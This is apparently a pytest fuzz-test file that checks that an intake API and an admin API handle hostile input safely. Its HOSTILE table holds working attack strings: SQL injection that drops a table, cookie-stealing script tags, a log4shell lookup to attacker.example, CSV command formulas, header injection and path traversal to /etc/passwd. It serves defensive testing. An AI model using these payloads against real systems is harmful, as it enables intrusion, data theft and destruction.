"""Known-bad input, aimed at every string field of a submission and every admin parameter.

Never a 5xx. Free text that passes the field rules (HTML, formulas, templates, odd Unicode) is
kept and comes back exactly as sent, apart from the documented canonical form (surrounding
whitespace stripped, NFC, CRLF as LF in multi-line text). What breaks a rule is a 422 naming
the field, without echoing the value. The CSV export neutralises every formula.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from fuzz.apps import SEEDED_CLIENT_IDS, StaffTokens, admin_settings, intake_settings

from admin_api.app import create_app as create_admin_app
from intake_api.app import create_app as create_intake_app
from intake_core.auth import DevIssuer
from support import VALID_BODY

pytestmark = pytest.mark.fuzz

SEEDED = SEEDED_CLIENT_IDS[0]

TEN_THOUSAND = "A" * 10_000
HOSTILE: dict[str, str] = {
    "sql-injection": "' OR '1'='1'; DROP TABLE submissions; --",
    "sql-union": "x' UNION SELECT client_id, document FROM submissions --",
    "sql-like-wildcards": "100% _of_ %",
    "script-tag": "<script>alert(document.cookie)</script>",
    "html-attribute": '"><img src=x onerror=alert(1)>',
    "template-injection": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "log4shell": "${jndi:ldap://attacker.example/a}",
    "csv-formula-cmd": "=cmd|' /C calc'!A0",
    "csv-formula-hyperlink": '=HYPERLINK("http://attacker.example","click")',
    "csv-formula-plus": "+1+cmd|' /C calc'!A0",
    "csv-formula-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "null-byte": "abc\x00def",
    "header-injection": "x\r\nBcc: victim@example.com",
    "tab-inside": "a\tb",
    "rtl-override": "invoice\u202egpj.exe",
    "zero-width": "A\u200dB\u200bC\u2060D",
    "byte-order-mark": "\ufeffBOM inside",
    "emoji": "\U0001f469\u200d\U0001f4bb B\u00fcro \u2615 \U0001f3f3\ufe0f\u200d\U0001f308",
    "combining-accent": "Cafe\u0301 Ltd",
    "line-separator": "one\u2028two",
    "lone-surrogate": "broken \ud800 text",
    "path-traversal": "../../../../etc/passwd",
    "json-in-text": '{"$where": "sleep(1000)", "__proto__": {"admin": true}}',
    "surrounding-space": "   padded   ",
    "whitespace-only": "   ",
    "empty": "",
    "ten-thousand-chars": TEN_THOUSAND,
}

# Numbers a parser may choke on, for the numeric and date parameters.
HOSTILE_NUMBERS: dict[str, str] = {
    "nan": "NaN",
    "infinity": "Infinity",
    "huge-integer": "9" * 5_000,
    "huge-float": "1e999",
    "negative": "-1",
    "hex": "0x10",
    "epoch-seconds": "1700000000",
}


@dataclass(frozen=True)
class TextRule:
    """The rule a free-text field enforces (``intake_core.domain.text``)."""

    min_length: int
    max_length: int
    multiline: bool = False

    def canonical(self, value: str) -> str:
        text = value.strip()
        if self.multiline:
            text = text.replace("\r\n", "\n")
        return unicodedata.normalize("NFC", text)

    def accepts(self, value: str) -> bool:
        if any(0xD800 <= ord(char) <= 0xDFFF for char in value):
            return False  # not Unicode text at all
        text = self.canonical(value)
        allowed = {"\n", "\t"} if self.multiline else set()
        # Control characters, separators, private use, and invisible format characters but the
        # joiners and direction marks that scripts and emoji need (the bidi overrides too).
        kept_format = set("\u200c\u200d\u200e\u200f\u061c")
        forbidden = any(
            char not in allowed
            and (
                unicodedata.category(char) in {"Cc", "Zl", "Zp", "Co"}
                or (unicodedata.category(char) == "Cf" and char not in kept_format)
            )
            for char in text
        )
        return not forbidden and self.min_length <= len(text) <= self.max_length


SHORT = TextRule(1, 200)
FREE_TEXT: dict[tuple[str, ...], TextRule] = {
    ("company", "name"): SHORT,
    ("company", "address", "line1"): SHORT,
    ("company", "address", "line2"): TextRule(0, 200),
    ("company", "address", "city"): TextRule(1, 100),
    ("company", "address", "region"): TextRule(0, 200),
    ("company", "contact", "name"): SHORT,
    ("engagement", "scope"): TextRule(1, 5000, multiline=True),
    ("engagement", "notes"): TextRule(0, 5000, multiline=True),
    ("consent", "privacyNoticeVersion"): TextRule(1, 32),
}
# Checked against a format or a list: a hostile value may pass (an email address may start
# with "=", a country without postal codes takes any code), but when refused it is a 422 for
# that very field.
FORMATTED: set[tuple[str, ...]] = {
    ("company", "address", "country"),
    ("company", "address", "postalCode"),
    ("company", "contact", "email"),
    ("company", "contact", "phone"),
}
ENUMS: set[tuple[str, ...]] = {
    ("company", "industry"),
    ("engagement", "serviceType"),
    ("engagement", "timeline"),
    ("engagement", "budgetRange"),
}
FILTERS = ("q", "industry", "serviceType", "status", "submittedFrom", "submittedTo")
# The export takes the filters; the list also pages.
STAFF_QUERIES = {
    "/v1/submissions": (*FILTERS, "limit", "continuationToken"),
    "/v1/submissions.csv": FILTERS,
}


def dotted(path: tuple[str, ...]) -> str:
    return ".".join(path)


def with_value(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    body = copy.deepcopy(VALID_BODY)
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return body


def read(record: dict[str, Any], path: tuple[str, ...]) -> Any:
    for key in path:
        record = record[key]
    return record


def json_bytes(document: Any) -> bytes:
    # ensure_ascii keeps lone surrogates sendable (as \ud800 escapes), as a browser would.
    return json.dumps(document).encode()


def is_problem(response: Any) -> bool:
    return bool(response.headers["content-type"] == "application/problem+json")


def escaped(value: str) -> str:
    return json.dumps(value)[1:-1]


@dataclass
class Platform:
    intake: TestClient
    admin: TestClient
    staff: dict[str, str]

    def submit(self, body: bytes) -> Any:
        return self.intake.post(
            "/v1/submissions", content=body, headers={"content-type": "application/json"}
        )

    def record(self, client_id: str) -> dict[str, Any]:
        response = self.admin.get(f"/v1/submissions/{client_id}", headers=self.staff)
        assert response.status_code == 200, response.text
        record: dict[str, Any] = response.json()
        return record

    def staff_get(self, path: str, query: str) -> Any:
        return self.admin.get(f"{path}?{query}", headers=self.staff)


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory, issuer_key: bytes) -> Iterator[Platform]:
    """intake-api and admin-api over one data dir, as ``intake run`` starts them."""
    data_dir: Path = tmp_path_factory.mktemp("hostile")
    admin = admin_settings(data_dir, issuer_key)
    staff = StaffTokens(DevIssuer(data_dir)).all_roles
    with (
        TestClient(
            create_intake_app(intake_settings(data_dir)), raise_server_exceptions=False
        ) as intake_client,
        TestClient(create_admin_app(admin), raise_server_exceptions=False) as admin_client,
    ):
        yield Platform(intake_client, admin_client, staff)


def refused_for(response: Any, path: tuple[str, ...], value: str) -> list[str]:
    """What is wrong with a refusal: the status, the field it names, an echo of the value."""
    problems = []
    if response.status_code != 422:
        problems.append(f"expected 422, got {response.status_code}")
        return problems
    named = {error["path"] for error in response.json().get("errors", [])}
    if dotted(path) not in named:
        problems.append(f"422 names {sorted(named)}, not {dotted(path)}")
    if len(value) >= 8 and (value in response.text or escaped(value) in response.text):
        problems.append("422 echoes the value")
    return problems


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_submission_fields_take_hostile_text_safely(platform: Platform, value: str) -> None:
    findings: list[str] = []
    for path in (*FREE_TEXT, *FORMATTED, *ENUMS):
        response = platform.submit(json_bytes(with_value(path, value)))
        where = f"{dotted(path)}: "
        if response.status_code >= 500:
            findings.append(where + f"{response.status_code} {response.text[:200]}")
            continue
        rule = FREE_TEXT.get(path)
        if response.status_code == 201:
            if path in ENUMS or (rule is not None and not rule.accepts(value)):
                findings.append(where + "accepted, but the field rules refuse it")
                continue
            stored = read(platform.record(response.json()["clientId"]), path)
            if rule is not None and stored != rule.canonical(value):
                findings.append(where + f"stored {stored!r}, sent {value!r}")
            continue
        if rule is not None and rule.accepts(value):
            findings.append(where + f"refused ({response.status_code}) text the rules allow")
            continue
        findings.extend(where + problem for problem in refused_for(response, path, value))
    assert not findings, "\n".join(findings)


def _query_value(value: str) -> str:
    # Lone surrogates go out as the invalid UTF-8 bytes a broken client would send.
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


ADMIN_VALUES = HOSTILE | HOSTILE_NUMBERS


@pytest.mark.parametrize("value", ADMIN_VALUES.values(), ids=ADMIN_VALUES.keys())
def test_admin_filters_take_hostile_text_safely(platform: Platform, value: str) -> None:
    findings: list[str] = []
    encoded = _query_value(value)
    for path, names in STAFF_QUERIES.items():
        for name in names:
            response = platform.staff_get(path, f"{name}={encoded}")
            where = f"{path}?{name}: "
            if response.status_code >= 500:
                findings.append(where + f"{response.status_code} {response.text[:200]}")
            elif response.status_code >= 400 and not is_problem(response):
                findings.append(where + f"{response.status_code} is not a problem document")
            elif name == "q" and len(value.strip()) <= 200:
                if response.status_code != 200:
                    findings.append(where + f"expected 200, got {response.status_code}")
            elif response.status_code != 422 and value.strip():
                findings.append(where + f"expected 422, got {response.status_code}")
    # An empty value makes another URL (the list itself): the Client ID routes need a value.
    for route in ("", "/audit", "/subject-export") if value else ():
        response = platform.admin.get(f"/v1/submissions/{encoded}{route}", headers=platform.staff)
        if response.status_code not in {404, 422}:
            findings.append(f"/v1/submissions/<value>{route}: {response.status_code}")
    assert not findings, "\n".join(findings)


def _matches(item: dict[str, Any], text: str) -> bool:
    fields = ("companyName", "contactName", "contactEmail", "clientId")
    return any(text.casefold() in str(item[field]).casefold() for field in fields)


@pytest.mark.parametrize("text", ["%", "_", "\\", "'", "%' OR '1'='1"])
def test_search_text_is_matched_literally(platform: Platform, text: str) -> None:
    for name in ("100% _of_ %", "Plain Name Ltd", "Other\\Slash Ltd"):
        platform.submit(json_bytes(with_value(("company", "name"), name)))
    response = platform.staff_get("/v1/submissions", f"q={quote(text, safe='')}&limit=100")
    assert response.status_code == 200, response.text
    items = response.json()["items"]
    assert all(_matches(item, text) for item in items), [i["companyName"] for i in items]
    if text in {"%", "_"}:
        assert items, "the record holding the literal text was not found"


FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_every_formula(platform: Platform) -> None:
    formulas = [value for value in HOSTILE.values() if value.lstrip().startswith(FORMULAS)]
    emails = ["=cmd@example.com", "+x@example.com", "-x@example.com"]
    for formula in formulas:
        for path in (("company", "name"), ("company", "contact", "name")):
            assert platform.submit(json_bytes(with_value(path, formula))).status_code == 201
    for email in emails:
        response = platform.submit(json_bytes(with_value(("company", "contact", "email"), email)))
        assert response.status_code == 201, response.text
    response = platform.admin.get("/v1/submissions.csv", headers=platform.staff)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULAS)]
    for text in (*formulas, *emails):
        assert f"'{text}" in cells, f"{text!r} is not in the export as inert text"


NESTED_ARRAYS = b"[" * 100_000 + b"]" * 100_000
NESTED_OBJECTS = b'{"a":' * 50_000 + b"1" + b"}" * 50_000
VALID_JSON = json_bytes(VALID_BODY)


def _with_size(token: bytes) -> bytes:
    return VALID_JSON.replace(b'"size": 250', b'"size": ' + token)


def _with_name(token: bytes) -> bytes:
    return VALID_JSON.replace(b'"name": "Contoso Ltd"', b'"name": ' + token)


RAW_BODIES: dict[str, bytes] = {
    "nested-arrays": NESTED_ARRAYS,
    "nested-objects": NESTED_OBJECTS,
    "nested-in-a-field": _with_name(b"[" * 50_000 + b"]" * 50_000),
    "huge-integer": _with_size(b"1" + b"0" * 5_000),
    "integer-beyond-int64": _with_size(b"18446744073709551617"),
    "huge-float": _with_size(b"1e999"),
    "tiny-float": _with_size(b"1e-999"),
    "negative-zero": _with_size(b"-0"),
    "nan": _with_size(b"NaN"),
    "infinity": _with_size(b"Infinity"),
    "minus-infinity": _with_size(b"-Infinity"),
    "number-as-name": _with_name(b"1e999"),
    "duplicate-keys": VALID_JSON[:-1] + b', "company": {}}',
    "invalid-utf8": VALID_JSON.replace(b"Contoso", b"Cont\xff\xfeso"),
    "utf8-bom": b"\xef\xbb\xbf" + VALID_JSON,
    "utf16": json.dumps(VALID_BODY).encode("utf-16"),
    "empty": b"",
    "null": b"null",
    "array": b"[]",
    "string": b'"hello"',
    "truncated": VALID_JSON[:-10],
}


@pytest.mark.parametrize("body", RAW_BODIES.values(), ids=RAW_BODIES.keys())
def test_malformed_json_never_fails_the_server(platform: Platform, body: bytes) -> None:
    json_header = {"content-type": "application/json"}
    answers = {
        "POST /v1/submissions": platform.intake.post(
            "/v1/submissions", content=body, headers=json_header
        ),
        "POST /v1/status-lookup": platform.intake.post(
            "/v1/status-lookup", content=body, headers=json_header
        ),
        "PATCH /v1/submissions/{id}": platform.admin.patch(
            "/v1/submissions/CL-0000-0000-0000",
            content=body,
            headers={**platform.staff, **json_header},
        ),
    }
    failures = {
        route: f"{response.status_code} {response.text[:200]}"
        for route, response in answers.items()
        if response.status_code >= 500 or (response.status_code >= 400 and not is_problem(response))
    }
    assert not failures


# Over admin-api's body limit, 413 comes first, and rightly: the edge refuses what it never reads.
SMALL_BODIES = {name: body for name, body in RAW_BODIES.items() if len(body) <= 16 * 1024}


@pytest.mark.parametrize("body", SMALL_BODIES.values(), ids=SMALL_BODIES.keys())
def test_without_a_token_a_malformed_body_is_still_401(platform: Platform, body: bytes) -> None:
    # "401 without a valid token": nothing about the body is judged before the caller is known.
    response = platform.admin.patch(
        f"/v1/submissions/{SEEDED}",
        content=body,
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 401, response.text


@pytest.mark.parametrize(
    "body",
    [
        {"status": "contacted" * 1000},
        {"status": "<script>alert(1)</script>"},
        {"status": "received\x00"},
        {"status": ["contacted"]},
        {"status": {"$ne": None}},
        {"status": None},
        {"status": 1e308},
    ],
    ids=["long", "script", "null-byte", "array", "operator", "null", "float"],
)
def test_status_change_refuses_hostile_values(platform: Platform, body: dict[str, Any]) -> None:
    created = platform.submit(VALID_JSON)
    assert created.status_code == 201
    client_id = created.json()["clientId"]
    response = platform.admin.patch(
        f"/v1/submissions/{client_id}",
        content=json_bytes(body),
        headers={**platform.staff, "content-type": "application/json"},
    )
    assert response.status_code == 422, response.text
    assert platform.record(client_id)["status"] == "received"
